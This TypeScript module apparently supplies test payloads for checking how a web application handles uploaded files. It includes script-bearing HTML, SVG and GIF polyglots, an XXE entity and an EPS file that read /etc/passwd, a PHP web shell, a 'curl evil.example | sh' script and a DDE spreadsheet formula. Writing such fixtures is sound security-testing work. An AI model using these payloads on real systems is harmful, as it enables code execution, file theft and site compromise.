import { gzipSync } from 'node:zlib'

/** The address that a payload requests, which proves that it ran. */
export const CALL = '/ran-in-our-origin'

/** A payload requests an address, opens a dialog and changes the title. */
export const SCRIPT = `try{document.title='ran'}catch(e){};try{fetch('${CALL}')}catch(e){};try{importScripts('${CALL}')}catch(e){};try{alert(1)}catch(e){}`

export type Payload = {
  what: string
  /** The real extension. */
  extension: string
  bytes: Buffer
}
const payload = (what: string, extension: string, bytes: string | Buffer): Payload => ({
  what,
  extension,
  bytes: Buffer.from(bytes),
})
const hex = (digits: string, more = 400) => Buffer.concat([Buffer.from(digits, 'hex'), Buffer.alloc(more)])

const HTML = `<!doctype html><html><head><script>${SCRIPT}</script></head><body onload="${SCRIPT.replaceAll('"', "'")}">x</body></html>`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="${SCRIPT}"><script>${SCRIPT}</script></svg>`
const XML = '<?xml version="1.0"?>'
const XHTML = 'http://www.w3.org/1999/xhtml'

/** Payloads that a browser runs under their real type. */
export const SCRIPTED: readonly Payload[] = [
  payload('a page', 'html', HTML),
  payload('a page after white space', 'htm', `\n\n\t ${HTML}`),
  payload('a page with a byte order mark', 'html', `\ufeff${HTML}`),
  payload('a page in UTF-16', 'html', Buffer.from(`\ufeff${HTML}`, 'utf16le')),
  payload('a page in UTF-7', 'html', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
  payload('a page after a comment', 'html', `<!-- ${'-'.repeat(2000)} -->${HTML}`),
  payload('a drawing with script', 'svg', SVG),
  payload(
    'a drawing with an entity',
    'svg',
    `${XML}<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>`,
  ),
  payload('a compressed drawing', 'svgz', gzipSync(SVG)),
  payload('an XHTML page', 'xhtml', `${XML}<html xmlns="${XHTML}"><script>${SCRIPT}</script></html>`),
  payload(
    'an XML document with a style sheet',
    'xml',
    `${XML}<?xml-stylesheet type="text/xsl" href="#x"?><x xmlns:h="${XHTML}"><h:script>${SCRIPT}</h:script></x>`,
  ),
  payload('a script', 'js', SCRIPT),
  payload(
    'a saved page',
    'mhtml',
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${HTML}\r\n--b--`,
  ),
  payload('a shortcut', 'url', `[InternetShortcut]\r\nURL=javascript:${SCRIPT}`),
]

/** Programs, archives, media and other documents. */
export const OTHER_TYPES: readonly Payload[] = [
  payload('a Windows program', 'exe', hex('4d5a90000300000004000000ffff0000')),
  payload('a Linux program', 'elf', hex('7f454c46020101000000000000000000')),
  payload('a Java class', 'class', hex('cafebabe00000034')),
  payload('a shell script', 'sh', '#!/bin/sh\ncurl evil.example | sh\n'),
  payload('a PHP page', 'php', '<?php system($_GET["c"]); ?>'),
  payload('an archive', 'zip', hex('504b0304140000000000')),
  payload('an empty archive', 'zip', hex('504b0506', 18)),
  payload('a RAR archive', 'rar', hex('526172211a0700')),
  payload('a GZIP archive', 'gz', gzipSync('x'.repeat(10_000))),
  payload('a GIF', 'gif', Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')),
  payload('a GIF that is a script', 'gif', `GIF89a=1;${SCRIPT}`),
  payload('a TIFF', 'tif', hex('49492a0008000000')),
  payload('an AVIF', 'avif', hex('0000001c66747970617669660000000061766966')),
  payload('a HEIC', 'heic', hex('0000001866747970686569630000000068656963')),
  payload('an EPS', 'eps', '%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file'),
  payload('a video', 'mp4', hex('00000018667479706d703432000000006d703432')),
  payload('an RTF document', 'rtf', '{\\rtf1\\ansi{\\object\\objocx}}'),
  payload('a table', 'csv', '=cmd|calc!A1,2\n'),
]
